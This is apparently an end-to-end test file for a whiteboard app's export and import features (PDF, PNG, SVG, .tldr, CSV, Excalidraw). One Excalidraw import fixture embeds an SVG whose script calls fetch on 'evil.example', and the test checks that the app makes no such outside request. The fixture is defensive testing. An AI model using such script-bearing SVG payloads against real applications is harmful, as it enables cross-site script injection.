import { readFile } from 'node:fs/promises'
import type { Download, Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { readPdf } from '../../pdfPages.ts'
import { addNotes, createBoard, createRoom, readNotes, type Facilitator } from '../../server/people.ts'
import { pngOf } from '../../server/pictures.ts'
import { stageForFile } from '../stage/browser.ts'
import { teamForFile, eventually, note, openBoard, saved, twoBefore } from '../stage/canvas.ts'

const stage = stageForFile()
const team = teamForFile(stage)

const openItem = async (page: Page, item: string) => {
  await page.getByRole('button', { name: 'File', exact: true }).click()
  await page.getByRole('menuitem', { name: item }).click()
}

async function save(page: Page): Promise<{ file: Download; bytes: Buffer }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download' }).click(),
  ])
  return { file, bytes: await readFile(await file.path()) }
}

/** Pixels, from the head of a PNG. */
const sizeOfPng = (bytes: Buffer) => ({ width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) })

test('a board becomes a PDF with a page a frame whose words can be found, and pictures as they are asked for', async () => {
  const { ada } = team
  const board = await createBoard(ada, 'journey-as-is')
  await addNotes(ada, board, [
    { text: 'Накладных нет, no waybills', zone: 'actions/noticed' },
    { text: 'Beside the frames' },
  ])
  const page = await openBoard(stage, ada, board)
  await note(page, 'no waybills').waitFor()
  await becomeInitiative(ada, board)
  await voteFor(ada, board)
  await note(page, 'no waybills').getByText('Proposed · Ada').waitFor()
  await note(page, 'no waybills').getByRole('img', { name: '2 dots' }).waitFor()

  await openItem(page, 'Export…')
  const dialog = page.getByRole('dialog', { name: 'Export the board' })
  await dialog.getByRole('radio', { name: 'PDF' }).click()
  const pdf = await save(page)
  expect(pdf.file.suggestedFilename()).toBe('Journey.pdf')
  const pages = await readPdf(pdf.bytes)
  expect(pages).toHaveLength(2)
  expect(pages[1]?.words).toContain('Beside the frames')
  expect(pages[0]?.words).toContain('Накладных нет, no')
  expect(pages[0]?.words).toContain('Incident noticed')
  expect(pages[0]?.words).toContain('1 / 2')
  expect(pages[0]?.words).toContain('Proposed · Ada')
  expect(pages[0]?.pictures).toBe(2)
  await dialog.waitFor({ state: 'detached' })

  await openItem(page, 'Export…')
  await dialog.getByRole('combobox', { name: 'What' }).click()
  await page.getByRole('option').nth(1).click()
  await dialog.getByRole('radio', { name: '1×' }).click()
  const told = await dialog.getByText(/pixels$/).innerText()
  const png = sizeOfPng((await save(page)).bytes)
  expect(told.replace(/,/g, '')).toBe(`${png.width} × ${png.height} pixels`)

  await openItem(page, 'Export…')
  await dialog.getByRole('radio', { name: 'SVG' }).click()
  const letters = textsOfSvg((await save(page)).bytes)
  expect(letters).toContain('Proposed · Ada')
  expect(letters).toContain('2')

  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await openItem(page, 'Export…')
  await dialog.getByRole('button', { name: 'Copy the picture' }).click()
  await page.getByText('Picture copied').waitFor()
  const types = await page.evaluate(async () =>
    (await navigator.clipboard.read()).flatMap(item => item.types),
  )
  expect(types).toEqual(['image/png'])
})

const firstNote = async (person: Facilitator, board: string) =>
  (await readNotes(person, board)).find(({ zone }) => zone !== null)

async function becomeInitiative(person: Facilitator, board: string): Promise<void> {
  const sources = [{ board, note: (await firstNote(person, board))?.id ?? '' }]
  await person.command({ type: 'initiative.promote', sources, owner: person.me.id })
}

async function voteFor(person: Facilitator, board: string): Promise<void> {
  const { result } = await person.command({ type: 'vote.open', board, budget: 3 })
  const vote = result?.vote ?? ''
  const note = (await firstNote(person, board))?.id ?? ''
  await person.command({ type: 'vote.cast', vote, note, count: 2 })
  await person.command({ type: 'vote.close', vote })
}

const textsOfSvg = (bytes: Buffer): string[] =>
  [...bytes.toString('utf8').matchAll(/<text[^>]*>([^<]+)<\/text>/g)].map(([, text = '']) => text)

/** Gives a file to the dialog as the file chooser does. */
async function choose(page: Page, name: string, content: string | Buffer): Promise<void> {
  await openItem(page, 'Import…')
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Choose a file…' }).click(),
  ])
  await chooser.setFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(content) })
}

test('a table becomes notes in their zones, others see them, and one step takes all of them back', async () => {
  const { adasPage, gracesPage, board } = await twoBefore(stage, team, 'journey-as-is')
  const rows = ['Zone;Note;Colour', 'Pains · Diagnosis;Пять раз «выгрузить»;green', 'Nowhere;Elsewhere;']
  const windows = Buffer.from(
    Array.from(rows.join('\r\n'), letter => {
      const code = letter.charCodeAt(0)
      if (code >= 0x410) return code - 0x410 + 0xc0
      return (
        new Map([
          ['·', 0xb7],
          ['«', 0xab],
          ['»', 0xbb],
        ]).get(letter) ?? code
      )
    }),
  )
  await choose(adasPage, 'table.csv', windows)
  const dialog = adasPage.getByRole('dialog', { name: 'Import to the board' })
  await dialog.getByText('Row 3: there is no zone “Nowhere”').waitFor()
  await dialog.getByRole('combobox', { name: /Where notes go/ }).click()
  await adasPage.getByRole('option', { name: 'Actions · Request filed' }).click()
  await dialog.getByRole('button', { name: 'Import 2 notes' }).click()
  await note(gracesPage, 'Пять раз').waitFor()
  await note(gracesPage, 'Elsewhere').waitFor()
  const notesOf = async () =>
    (await readNotes(team.ada, board)).map(({ text, zone, color, author }) => [text, zone, color, author])
  expect(await notesOf()).toEqual([
    ['Elsewhere', 'actions/filed', 'yellow', team.ada.me.id],
    ['Пять раз «выгрузить»', 'pains/diagnosis', 'green', team.ada.me.id],
  ])
  await adasPage.keyboard.press('Control+z')
  await eventually(async () => (await readNotes(team.ada, board)).length).toBe(0)

  await choose(adasPage, 'broken.tldr', '{"tldrawFileFormatVersion": 1')
  await dialog.getByText(/cannot be read/).waitFor()
  await adasPage.keyboard.press('Escape')
})

test('a board goes out as .tldr and comes in beside itself; drawings and tables that are dropped or pasted ask first', async () => {
  const { ada } = team
  const board = await createBoard(ada, 'blank')
  await addNotes(ada, board, [{ text: 'Первая' }, { text: 'Вторая' }])
  const page = await openBoard(stage, ada, board)
  await note(page, 'Первая').waitFor()
  const [file] = await Promise.all([page.waitForEvent('download'), openItem(page, 'For tldraw, .tldr')])
  expect(file.suggestedFilename()).toBe('journey.tldr')
  await choose(page, 'journey.tldr', await readFile(await file.path()))
  const dialog = page.getByRole('dialog', { name: 'Import to the board' })
  await dialog.getByText('2 of them are notes').waitFor()
  await dialog.getByRole('button', { name: 'Put on the board' }).click()
  await eventually(() => note(page, 'Первая').count()).toBe(2)
  await saved(page)
  const places = (await readNotes(ada, board))
    .filter(({ text }) => text === 'Вторая')
    .map(({ x, y }) => [x, y])
  expect(new Set(places.map(([x]) => x)).size).toBe(2)
  expect(new Set(places.map(([, y]) => y)).size).toBe(1)

  const drawing = {
    type: 'excalidraw',
    elements: [
      { id: 'a', type: 'rectangle', x: 0, y: 0, width: 200, height: 90, backgroundColor: '#b2f2bb' },
      { id: 't', type: 'text', x: 5, y: 5, width: 90, height: 25, text: 'Из Excalidraw', containerId: 'a' },
      { id: 'i', type: 'image', x: 5, y: 5, width: 90, height: 25 },
    ],
  }
  await page.locator('[data-testid="canvas"]').evaluate((canvas, text) => {
    const dataTransfer = new DataTransfer()
    dataTransfer.items.add(new File([text], 'plan.excalidraw'))
    canvas.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, clientX: 300, clientY: 300 }))
  }, JSON.stringify(drawing))
  await dialog.getByText('Left out: pictures that are not in the file (1).').waitFor()
  await dialog.getByRole('button', { name: 'Put on the board' }).click()
  await note(page, 'Из Excalidraw').waitFor()

  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.evaluate(() => navigator.clipboard.writeText('раз\tдва\nтри\tчетыре'))
  await page.keyboard.press('Control+v')
  await dialog.getByRole('region', { name: 'The beginning of the table' }).getByText('четыре').waitFor()
  await dialog.getByRole('button', { name: 'Import 2 notes' }).click()
  await dialog.waitFor({ state: 'detached' })
})

test('pictures go out inside a .tldr, and come into another room with it; those of an Excalidraw file too', async () => {
  const { ada } = team
  const board = await createBoard(ada, 'blank')
  const page = await openBoard(stage, ada, board)
  const choosing = page.waitForEvent('filechooser')
  await page.evaluate(() => document.readyState) // The browser knows by then that somebody waits for it.
  await page.keyboard.press('Control+u')
  const png = pngOf({ width: 60, height: 40, color: [200, 30, 30] })
  await (await choosing).setFiles({ name: 'red.png', mimeType: 'image/png', buffer: png })
  await page.locator('[data-shape-type="image"] img').waitFor()
  await saved(page)
  const [file] = await Promise.all([page.waitForEvent('download'), openItem(page, 'For tldraw, .tldr')])
  const bytes = await readFile(await file.path())
  expect(bytes.toString()).toContain('data:image/png;base64,')

  const elsewhere = await createRoom(stage.server, { name: 'Elsewhere' })
  const other = await createBoard(elsewhere, 'blank')
  const far = await openBoard(stage, elsewhere, other)
  const asked: string[] = []
  far.on('request', request => asked.push(new URL(request.url()).host))
  await choose(far, 'journey.tldr', bytes)
  const dialog = far.getByRole('dialog', { name: 'Import to the board' })
  await dialog.getByText('1 picture is put into this room.').waitFor()
  await dialog.getByRole('button', { name: 'Put on the board' }).click()
  const picture = far.locator('[data-shape-type="image"] img')
  await picture.first().waitFor()
  expect(await picture.getAttribute('src')).toContain(`/api/rooms/${elsewhere.room}/assets/`)

  const blue = `data:image/png;base64,${pngOf({ width: 30, height: 30 }).toString('base64')}`
  const svg = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><script>fetch("https://evil.example")</script><rect width="40" height="20" fill="red"/></svg>').toString('base64')}`
  const place = { x: 0, y: 0, width: 60, height: 60 }
  const drawing = {
    type: 'excalidraw',
    elements: [
      { id: 'a', type: 'image', fileId: 'f1', ...place },
      { id: 'b', type: 'image', fileId: 'f2', ...place, x: 100 },
      { id: 'c', type: 'image', fileId: 'broken', ...place, x: 200 },
      { id: 'd', type: 'embeddable', link: 'https://tracker.example/plan', ...place, x: 300 },
    ],
    files: { f1: { dataURL: blue }, f2: { dataURL: svg }, broken: { dataURL: 'data:image/png;base64,AAAA' } },
  }
  await choose(far, 'plan.excalidraw', JSON.stringify(drawing))
  await dialog.getByText('3 pictures are put into this room.').waitFor()
  await dialog.getByRole('button', { name: 'Put on the board' }).click()
  await far.getByText('1 picture could not be taken along.').waitFor()
  await eventually(() => picture.count()).toBe(3)
  await far.locator('[data-shape-type="link"]').waitFor()
  expect(new Set(asked)).toEqual(new Set([new URL(stage.server.origin).host, '']))

  await openItem(far, 'Export…')
  const exporting = far.getByRole('dialog', { name: 'Export the board' })
  await exporting.getByRole('radio', { name: 'SVG' }).click()
  expect((await save(far)).bytes.toString().match(/data:image/g)?.length).toBe(2)
  await openItem(far, 'Export…')
  await exporting.getByRole('radio', { name: 'PDF' }).click()
  expect((await readPdf((await save(far)).bytes))[0]?.pictures).toBe(2)
})
